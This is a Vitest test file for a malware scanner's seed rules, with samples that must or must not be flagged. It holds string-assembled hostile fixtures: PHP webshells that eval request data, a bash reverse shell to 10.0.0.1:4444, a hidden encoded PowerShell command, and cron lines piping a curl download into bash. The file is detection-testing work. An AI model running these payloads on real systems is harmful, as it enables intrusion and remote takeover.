import { readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { eicar, infectedMarker, Lab, suspiciousMarker } from '../detect/testing/lab.ts'
import type { Scanner } from '../scanner.ts'
import { walkArea } from '../walk/walk.ts'

const lab = new Lab()
let scanner: Scanner
beforeAll(async () => {
  scanner = await lab.scanner()
})
afterAll(() => lab.dispose())

// Put together here, so that this file is no sample itself.
const assembled = (...parts: string[]): string => parts.join('')
const php = assembled('<?', 'php ')
const devTcp = assembled('/dev', '/tcp/10.0.0.1/4444')
const encoded = 'QQBB'.repeat(30)
const pipeToShell = assembled('curl -fsSL http://example.invalid/i.sh', ' | ', 'bash')

const positive: readonly (readonly [string, Buffer | string])[] = [
  ['EICAR-Test-File infected', eicar],
  ['RemoteProtection_Test_Infected infected', infectedMarker],
  ['RemoteProtection_Test_Suspicious probably-infected', suspiciousMarker],
  ['Webshell_Php_Request_Execution infected', `${php}@${assembled('ev', 'al')}($_POST["x"]); ?>`],
  ['Webshell_Php_Request_Execution infected', `${php}\n${assembled('sys', 'tem')}(base64_decode($_REQUEST['c']));`],
  ['Backdoor_Shell_Reverse_Connection infected', `#!/bin/bash\nbash -i >& ${devTcp} 0>&1\n`],
  ['Suspicious_Shell_Reverse_Connection probably-infected', `bash -i >& ${devTcp} 0>&1\n`],
  [
    'Downloader_PowerShell_Encoded infected',
    `start ${assembled('power', 'shell')}.exe -nop -w hidden -${assembled('en', 'c')} ${encoded}`,
  ],
  [
    'Miner_Configuration risky',
    `{"${assembled('donate', '-level')}": 1, "pools": [{"url": "pool.example.invalid:3333", "user": "wallet"}]}`,
  ],
  ['Persistence_Cron_Download_And_Run probably-infected', `*/5 * * * * ${pipeToShell}\n`],
  ['Persistence_Cron_Download_And_Run probably-infected', `SHELL=/bin/sh\n@reboot root ${pipeToShell}\n`],
]

const negative: readonly (readonly [string, string])[] = [
  ['half a marker', infectedMarker.toString().slice(0, -3)],
  ['PHP that reads a request', `${php}echo htmlspecialchars($_POST["name"]); exec("ls"); ?>`],
  ['PHP code in a text', `The call ${assembled('ev', 'al')}($_GET["x"]) is dangerous.`],
  ['a script that tests a port', '#!/bin/bash\nif (echo > /dev/tcp/localhost/80) 2>/dev/null; then echo up; fi\n'],
  ['PowerShell with a command', `${assembled('power', 'shell')}.exe -NoProfile -Command Get-Date -w hidden`],
  ['JSON with addresses', '{"pools": [{"url": "http://example.invalid:8080"}], "user": "x"}'],
  ['a cron line that only downloads', '0 3 * * * root curl -fsS https://example.invalid/ping > /dev/null\n'],
  ['an installation guide', `Run this:\n\n    ${pipeToShell}\n`],
]

describe('seed rules', () => {
  it.each(positive)('%s', async (expected, content) => {
    const { findings } = await scanner.scanBuffer(Buffer.from(content), 'sample')
    expect(findings.map(({ threat, verdict }) => `${threat} ${verdict}`)).toEqual([expected])
  })

  it.each(negative)('nothing in %s', async (_, content) => {
    expect((await scanner.scanBuffer(Buffer.from(content), 'sample')).findings).toEqual([])
  })

  it('find nothing in this repository and in programs of the system', async () => {
    const own = ['electron', 'shared', 'resources', 'docs', 'build', 'renderer', 'cloud'].flatMap((name) =>
      filesIn(name),
    )
    const programs = filesIn('/usr/bin').slice(0, 150)
    const hits: string[] = []
    for (const file of [...own, ...programs]) {
      const result = await scanner.scanFile(Buffer.from(file))
      if (result.kind === 'detected') hits.push(`${file}: ${result.object.findings[0]?.threat}`)
    }
    expect(hits).toEqual([])
  }, 60_000)

  it('every rule says whose it is, what it is about and how sure it is', () => {
    const rules = readFileSync('resources/databases/seed.yar', 'utf8')
      .split(/^rule /m)
      .slice(1)
    expect(rules).toHaveLength(8)
    for (const rule of rules)
      expect(rule).toMatch(/author = "remote-protection"\n.*description = ".+"\n.*verdict = ".+"\n.*score = \d+/)
  })
})

function filesIn(path: string): string[] {
  const entries = [...walkArea([Buffer.from(resolve(path))], { exclude: [] })]
  return entries.flatMap((entry) => (entry.kind === 'file' ? entry.path.toString() : []))
}
